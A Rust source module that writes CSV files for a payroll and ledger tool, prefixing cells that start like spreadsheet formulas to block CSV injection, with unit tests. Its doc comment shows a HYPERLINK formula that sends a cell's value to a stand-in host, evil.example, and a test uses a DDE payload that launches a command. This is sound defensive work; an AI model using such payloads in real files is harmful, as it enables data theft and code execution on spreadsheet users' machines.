//! Every CSV file Kakunin writes goes through [`CsvFile`]: the payroll export and the three
//! ledgers (file, export, disposal).
//!
//! A person may open any of them in a spreadsheet, where a cell that starts with `=`, `+`,
//! `-`, `@`, a tab or a carriage return is run as a formula (a name typed as
//! `=HYPERLINK("https://evil.example/?n="&E2,"click")` would send the number in column E
//! away). So each cell is neutralised as OWASP advises ("CSV Injection"): one that starts
//! so, or with spaces and then so ([`storage::typed_text::starts_like_formula`]), gets a
//! leading `'`, and the `csv` crate quotes what needs quoting (RFC 4180, CRLF line ends).
//!
//! Two kinds of reader:
//! - a person ([`CsvFile::for_people`]): the file starts with a UTF-8 byte-order mark, or
//!   Excel reads UTF-8 as Shift_JIS and shows Japanese garbled;
//! - a payroll system ([`CsvFile::for_payroll_system`]): no byte-order mark. Payroll
//!   imports read the header by name, and a BOM would stick to the first column's name
//!   (`\u{feff}employee_code`) in any reader that does not expect one. Its cells are
//!   neutralised too, which changes no real value: names and furigana refuse a leading
//!   formula character when typed, usernames and employee codes start with a letter or a
//!   digit, and the other columns are codes, digits and dates. Only a value stored before
//!   those rules could get the `'`, and then a system sees it rather than a person running it.
//!
//! The output stays in memory wiped on drop (the payroll export holds plaintext numbers):
//! it grows by moving to a larger wiped buffer, never by reallocating in place, and the
//! `csv` writer's own buffer, which it frees without wiping, is overwritten before it goes.

use std::borrow::Cow;
use std::io;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use storage::typed_text::starts_like_formula;
use zeroize::Zeroizing;

/// The UTF-8 byte-order mark at the start of a file for people.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

/// The `csv` writer's buffer, overwritten before it is freed.
const CSV_BUFFER: usize = 8 * 1024;

/// A CSV file being written (see the module documentation).
#[derive(Debug)]
pub struct CsvFile {
    csv: csv::Writer<WipedSink>,
    discard: Arc<AtomicBool>,
}

impl CsvFile {
    /// A file a person may open in a spreadsheet: starts with the UTF-8 BOM.
    pub fn for_people() -> Self {
        Self::new(true, 4 * 1024)
    }

    /// The payroll export, read by a payroll system: no BOM. `capacity` is a guess of its
    /// size in bytes (a closer guess means fewer moves).
    pub fn for_payroll_system(capacity: usize) -> Self {
        Self::new(false, capacity)
    }

    fn new(bom: bool, capacity: usize) -> Self {
        let discard = Arc::new(AtomicBool::new(false));
        let mut sink = WipedSink {
            out: Zeroizing::new(Vec::with_capacity(capacity.max(64))),
            discard: Arc::clone(&discard),
        };
        if bom {
            sink.append(BOM);
        }
        let csv = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .buffer_capacity(CSV_BUFFER)
            .from_writer(sink);
        Self { csv, discard }
    }

    /// Writes one row, each cell neutralised.
    pub fn row<I, T>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in cells {
            self.csv.write_field(neutralise(cell.as_ref()).as_bytes())?;
        }
        self.csv.write_record(None::<&[u8]>)
    }

    /// The whole file.
    pub fn finish(mut self) -> Result<Zeroizing<Vec<u8>>, csv::Error> {
        self.csv.flush()?;
        // Everything is out; overwrite the csv writer's buffer with zeros (sent nowhere) so
        // that it is not freed holding the last rows.
        self.discard.store(true, Ordering::SeqCst);
        self.csv.write_field([0u8; CSV_BUFFER])?;
        let sink = self
            .csv
            .into_inner()
            .map_err(|e| csv::Error::from(e.into_error()))?;
        Ok(sink.out)
    }
}

/// A cell as a spreadsheet may safely read it: with a leading `'` when it would otherwise
/// start a formula (OWASP, "CSV Injection"), else unchanged.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if starts_like_formula(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Memory wiped on drop that grows by moving to a larger wiped buffer; drops what is
/// written once `discard` is set.
#[derive(Debug)]
struct WipedSink {
    out: Zeroizing<Vec<u8>>,
    discard: Arc<AtomicBool>,
}

impl WipedSink {
    fn append(&mut self, bytes: &[u8]) {
        if self.out.capacity() - self.out.len() < bytes.len() {
            let wanted = (self.out.len() + bytes.len()).max(2 * self.out.capacity());
            let mut bigger = Zeroizing::new(Vec::with_capacity(wanted));
            bigger.extend_from_slice(&self.out);
            // The old buffer is wiped as it drops.
            self.out = bigger;
        }
        self.out.extend_from_slice(bytes);
    }
}

impl io::Write for WipedSink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        if !self.discard.load(Ordering::SeqCst) {
            self.append(bytes);
        }
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(bytes: &[u8]) -> &str {
        std::str::from_utf8(bytes).expect("utf-8")
    }

    #[test]
    fn a_file_for_people_starts_with_the_bom_and_defuses_formulas() {
        let mut file = CsvFile::for_people();
        file.row(["purpose", "count"]).expect("header");
        file.row(["=1+1", "3"]).expect("row");
        file.row(["@SUM(A1)", "-2"]).expect("row");
        file.row(["\t=cmd|' /C calc'!A0", "+1"]).expect("row");
        file.row(["Smith-Jones, \"Jr\"", "グエン＝ヴァン"])
            .expect("row");
        let bytes = file.finish().expect("finish");
        assert!(bytes.starts_with(BOM));
        assert_eq!(
            text(&bytes[BOM.len()..]),
            "purpose,count\r\n'=1+1,3\r\n'@SUM(A1),'-2\r\n'\t=cmd|' /C calc'!A0,'+1\r\n\
             \"Smith-Jones, \"\"Jr\"\"\",グエン＝ヴァン\r\n"
        );
    }

    #[test]
    fn the_payroll_file_has_no_bom_and_grows_past_its_first_guess() {
        let mut file = CsvFile::for_payroll_system(8);
        for i in 0..2_000 {
            file.row([format!("E{i:05}"), "123456789018".to_owned()])
                .expect("row");
        }
        let bytes = file.finish().expect("finish");
        assert!(bytes.starts_with(b"E00000,123456789018\r\n"));
        assert!(bytes.ends_with(b"E01999,123456789018\r\n"));
        assert_eq!(bytes.len(), 2_000 * 21);
    }

    #[test]
    fn only_a_formula_start_is_prefixed() {
        assert_eq!(neutralise("=A1"), "'=A1");
        assert_eq!(neutralise("  +A1"), "'  +A1");
        assert_eq!(neutralise("a=b"), "a=b");
        assert_eq!(neutralise(""), "");
    }
}
